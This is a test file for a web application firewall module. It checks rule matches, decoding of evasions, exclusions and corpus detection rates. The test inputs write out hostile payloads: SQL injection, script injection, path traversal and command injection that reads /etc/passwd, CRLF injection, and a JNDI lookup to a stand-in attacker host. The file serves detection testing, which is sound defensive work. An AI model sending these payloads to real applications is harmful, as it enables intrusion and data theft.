// The WAF module (modules/waf, built to wasm32-wasi by this build) run through the real host path: WafModule
// (load with the WAF limits, FunctionRunner, alloc / analyze_request / dealloc) on requests serialised exactly as
// the phase does. Includes the corpus test: detection and false-positive rates at the default paranoia level.
#include <gtest/gtest.h>

#include <fstream>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "config/waf_config.h"
#include "waf/waf_module.h"

using namespace aegis;

namespace {

std::string wasm(const std::string& name) { return std::string(AEGIS_WASM_DIR) + "/" + name + ".wasm"; }

functions::FunctionLimits test_limits() {
  functions::FunctionLimits l = functions::FunctionLimits::waf_module();
  l.deadline = std::chrono::milliseconds(2000);  // a loaded machine must not turn a slow call into a failure here
  l.fuel = config::WafConfig{}.fuel;  // the default budget of waf.fuel
  return l;
}

const waf::WafModule& module() {
  static std::shared_ptr<const waf::WafModule> m = waf::WafModule::load(wasm("aegis_waf"), test_limits());
  return *m;
}

struct Req {
  std::string method = "GET";
  std::string uri = "/";
  std::vector<std::pair<std::string, std::string>> headers = {
      {"host", "shop.example.com"}, {"user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"}};
  std::string body;
};

waf::Verdict run(const Req& r, const waf::Policy& p = {}) {
  waf::Request req;
  req.method = r.method;
  req.uri = r.uri;
  for (const auto& [n, v] : r.headers) req.headers.emplace_back(n, v);
  req.body = r.body;
  return module().analyze(waf::request_json(req, waf::policy_json(p)), p);
}

Req get(const std::string& uri) {
  Req r;
  r.uri = uri;
  return r;
}

bool has_rule(const waf::Verdict& v, uint32_t id) {
  for (const auto& m : v.matches)
    if (m.rule_id == id) return true;
  return false;
}

std::string rules(const waf::Verdict& v) {
  std::string s;
  for (const auto& m : v.matches) s += std::to_string(m.rule_id) + "@" + m.location + " ";
  return s;
}

}  // namespace

TEST(WafModule, BenignGetPasses) {
  waf::Verdict v = run(get("/products?id=42&sort=price"));
  ASSERT_TRUE(v.ok()) << v.outcome.message;
  EXPECT_FALSE(v.blocked);
  EXPECT_EQ(v.score, 0);
  EXPECT_TRUE(v.matches.empty()) << rules(v);
}

TEST(WafModule, SqlInjectionBlockedWithRuleIdLocationAndScore) {
  waf::Verdict v = run(get("/products?id=1%20UNION%20SELECT%20password%20FROM%20users"));
  ASSERT_TRUE(v.ok()) << v.outcome.message;
  EXPECT_TRUE(v.blocked);
  ASSERT_TRUE(has_rule(v, 942100)) << rules(v);
  EXPECT_GE(v.score, 5);
  for (const auto& m : v.matches)
    if (m.rule_id == 942100) {
      EXPECT_EQ(m.location, "Arg:id");
      EXPECT_EQ(m.category, "sqli");
      EXPECT_EQ(m.severity, 5);
    }
}

TEST(WafModule, DecodingDefeatsEncodingEvasions) {
  // double percent encoding, %u escapes, '+' as space, HTML entities, \u escapes, case and SQL comments
  EXPECT_TRUE(has_rule(run(get("/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E")), 941100));
  EXPECT_TRUE(has_rule(run(get("/s?q=%u003Cscript%u003Ealert(1)")), 941100));
  EXPECT_TRUE(has_rule(run(get("/s?id=1+UNION+ALL+SELECT+1,2")), 942100));
  EXPECT_TRUE(has_rule(run(get("/s?q=%26lt%3Bscript%26gt%3Balert(1)")), 941100));
  EXPECT_TRUE(has_rule(run(get("/s?q=%5Cu003cscript%5Cu003e")), 941100));
  EXPECT_TRUE(has_rule(run(get("/s?id=1%20UnIoN/**/sElEcT%201")), 942100));
  EXPECT_TRUE(has_rule(run(get("/s?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201")), 942100));
  EXPECT_TRUE(has_rule(run(get("/s?f=..%c0%af..%c0%afetc%c0%afpasswd")), 930120));
  EXPECT_TRUE(has_rule(run(get("/s?h=x;c%27%27at$%7BIFS%7D/etc/passwd")), 932100));
}

TEST(WafModule, StackedSelectOnlyAfterAnInjectionBreak) {
  // 942130 `; select`: after a number, a closed string, ')' or at the start of the value, not in prose
  EXPECT_TRUE(has_rule(run(get("/s?id=1;SELECT%20*%20FROM%20pg_shadow")), 942130));
  EXPECT_TRUE(has_rule(run(get("/s?u=x%27;%20select%20*%20from%20users--")), 942130));
  EXPECT_TRUE(has_rule(run(get("/s?u=x);%20select%20@@version")), 942130));
  EXPECT_TRUE(has_rule(run(get("/s?q=;select%201")), 942130));
  waf::Verdict v = run(get("/s?bio=I%20like%20SQL;%20select%20*%20from%20life"));
  EXPECT_FALSE(has_rule(v, 942130)) << rules(v);
  EXPECT_FALSE(v.blocked) << rules(v);
}

TEST(WafModule, ParsesCookiesFormsAndJsonIntoNamedArguments) {
  Req c = get("/");
  c.headers.push_back({"cookie", "theme=dark; uid=1%27%20OR%20%271%27%3D%271"});
  waf::Verdict vc = run(c);
  ASSERT_TRUE(has_rule(vc, 942110)) << rules(vc);
  EXPECT_EQ(vc.matches[0].location, "Cookie:uid");

  Req f;
  f.method = "POST";
  f.uri = "/form";
  f.headers.push_back({"content-type", "application/x-www-form-urlencoded"});
  f.body = "name=x&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E";
  waf::Verdict vf = run(f);
  ASSERT_TRUE(has_rule(vf, 941110)) << rules(vf);
  EXPECT_EQ(vf.matches[0].location, "Body:comment");

  Req j;
  j.method = "POST";
  j.uri = "/api";
  j.headers.push_back({"content-type", "application/json"});
  j.body = R"({"user":{"name":"x","bio":"${jndi:ldap://evil.example/a}"},"n":1})";
  waf::Verdict vj = run(j);
  ASSERT_TRUE(has_rule(vj, 944110)) << rules(vj);
  EXPECT_EQ(vj.matches[0].location, "Body:user.bio");
}

TEST(WafModule, ProtocolAnomalies) {
  Req no_host = get("/");
  no_host.headers = {{"user-agent", "x"}};
  EXPECT_TRUE(has_rule(run(no_host), 920280));
  EXPECT_TRUE(has_rule(run(get("/s?q=%zz")), 920220));
  Req trace = get("/");
  trace.method = "TRACE";
  EXPECT_TRUE(has_rule(run(trace), 920100));
  EXPECT_TRUE(has_rule(run(get("/r?to=%0d%0aSet-Cookie:%20a=1")), 921120));
  EXPECT_TRUE(has_rule(run(get("/f?name=a%00.php")), 920270));
  Req scanner = get("/");
  scanner.headers[1].second = "sqlmap/1.7";
  EXPECT_TRUE(has_rule(run(scanner), 913100));
}

TEST(WafModule, ParanoiaLevelAddsRules) {
  // 941160 (any HTML tag) is a paranoia-2 rule
  Req r = get("/s?q=%3Cb%3Ehello%3C%2Fb%3E");
  waf::Policy pl1;
  EXPECT_FALSE(has_rule(run(r, pl1), 941160));
  waf::Policy pl2;
  pl2.paranoia = 2;
  EXPECT_TRUE(has_rule(run(r, pl2), 941160));
}

TEST(WafModule, ThresholdDecidesBlocking) {
  // one warning-level rule (941140, score 3): below the default threshold 5, above a threshold of 3
  Req r = get("/s?q=alert(1)");
  waf::Verdict def = run(r);
  ASSERT_TRUE(has_rule(def, 941140)) << rules(def);
  EXPECT_EQ(def.score, 3);
  EXPECT_FALSE(def.blocked);
  waf::Policy low;
  low.threshold = 3;
  EXPECT_TRUE(run(r, low).blocked);
}

TEST(WafModule, ExclusionsByRuleIdAndArgumentName) {
  Req r = get("/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&id=7");
  ASSERT_TRUE(run(r).blocked);
  waf::Policy by_rule;
  by_rule.exclude_rules = {941100, 941140};
  waf::Verdict v = run(r, by_rule);
  EXPECT_FALSE(has_rule(v, 941100)) << rules(v);
  EXPECT_FALSE(v.blocked) << rules(v);
  waf::Policy by_arg;
  by_arg.exclude_args = {"q"};
  waf::Verdict va = run(r, by_arg);
  EXPECT_TRUE(va.matches.empty()) << rules(va);
  // the same payload in another argument is still caught
  EXPECT_TRUE(run(get("/s?other=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), by_arg).blocked);
  // JSON: "name" excludes "user.name"
  Req j;
  j.method = "POST";
  j.uri = "/api";
  j.headers.push_back({"content-type", "application/json"});
  j.body = R"({"user":{"name":"' OR '1'='1"}})";
  ASSERT_TRUE(run(j).blocked);
  waf::Policy by_json;
  by_json.exclude_args = {"name"};
  EXPECT_FALSE(run(j, by_json).blocked);
}

TEST(WafModule, PathologicalInputsStayWithinTheBudget) {
  // Linear-time engine: hostile bodies of the default inspected size (waf.max_body_bytes) finish inside the default
  // fuel budget (deterministic, not a timing check).
  const std::size_t n = config::WafConfig{}.max_body_bytes;
  auto rep = [n](std::string_view unit) {
    std::string s;
    while (s.size() + unit.size() <= n) s += unit;
    return s;
  };
  std::vector<std::string> bodies = {rep("'"), rep("<") , rep("/*!x*/"), rep("%25"), rep("{{ ${ "), rep("../"),
                                     rep("' or 1=1 union select "), rep("<a onx=1 "), rep(";id|"), rep("\\u0027"),
                                     rep("&#x3c;"), rep("a")};
  for (const auto& b : bodies) {
    Req r;
    r.method = "POST";
    r.uri = "/p";
    r.headers.push_back({"content-type", "text/plain"});
    r.body = b;
    waf::Verdict v = run(r);
    std::printf("pathological %s x%zu: fuel %llu wall %lld us\n", b.substr(0, 6).c_str(), b.size(),
                (unsigned long long)v.outcome.fuel_used, (long long)(v.outcome.wall.count() / 1000));
    EXPECT_TRUE(v.ok()) << functions::label(v.outcome.status) << ": " << v.outcome.message << " for " << b.substr(0, 12);
  }
  // deeply nested JSON is refused by the module's parser (depth limit) and inspected as raw text instead
  Req deep;
  deep.method = "POST";
  deep.uri = "/p";
  deep.headers.push_back({"content-type", "application/json"});
  deep.body = std::string(n / 2, '[') + std::string(n / 2, ']');
  EXPECT_TRUE(run(deep).ok());
}

// ---- corpus -----------------------------------------------------------------------------------------------------

namespace {

struct CorpusResult {
  int total = 0, blocked = 0, failed = 0;
  std::vector<std::string> listed;  // misses (malicious) or false positives (benign)
};

CorpusResult run_corpus(const std::string& file, bool malicious) {
  std::ifstream in(std::string(AEGIS_WAF_CORPUS_DIR) + "/" + file);
  EXPECT_TRUE(in.good()) << file;
  CorpusResult res;
  std::string line;
  waf::Policy policy;  // defaults: paranoia 1, threshold 5
  std::string fragment = waf::policy_json(policy);
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    nlohmann::json j = nlohmann::json::parse(line);
    std::string method = j["method"], uri = j["uri"], body = j["body"];
    std::vector<std::pair<std::string, std::string>> hs;
    for (const auto& h : j["headers"]) hs.emplace_back(h[0].get<std::string>(), h[1].get<std::string>());
    waf::Request r;
    r.method = method;
    r.uri = uri;
    for (const auto& [n, v] : hs) r.headers.emplace_back(n, v);
    r.body = body;
    waf::Verdict v = module().analyze(waf::request_json(r, fragment), policy);
    ++res.total;
    if (!v.ok()) {
      ++res.failed;
      res.listed.push_back(j["id"].get<std::string>() + " FAILED " + v.outcome.message);
      continue;
    }
    if (v.blocked) ++res.blocked;
    if (v.blocked != malicious) res.listed.push_back(j["id"].get<std::string>() + " " + j["class"].get<std::string>() +
                                                     " " + uri.substr(0, 100) + " " + rules(v));
  }
  return res;
}

}  // namespace

TEST(WafCorpus, DetectionRateAtDefaultParanoia) {
  CorpusResult r = run_corpus("malicious.jsonl", true);
  ASSERT_GE(r.total, 300);
  double rate = static_cast<double>(r.blocked) / r.total;
  std::string misses;
  for (const auto& m : r.listed) misses += "  " + m + "\n";
  EXPECT_EQ(r.failed, 0) << misses;
  std::printf("WAF corpus: %d/%d malicious requests blocked (%.1f %%)\n", r.blocked, r.total, 100.0 * rate);
  EXPECT_GE(rate, 0.95) << "missed:\n" << misses;
}

TEST(WafCorpus, FalsePositiveRateAtDefaultParanoia) {
  CorpusResult r = run_corpus("benign.jsonl", false);
  ASSERT_GE(r.total, 300);
  double rate = static_cast<double>(r.blocked) / r.total;
  std::string fps;
  for (const auto& m : r.listed) fps += "  " + m + "\n";
  EXPECT_EQ(r.failed, 0) << fps;
  std::printf("WAF corpus: %d/%d benign requests blocked (%.2f %%)\n", r.blocked, r.total, 100.0 * rate);
  EXPECT_LE(rate, 0.01) << "false positives:\n" << fps;
}
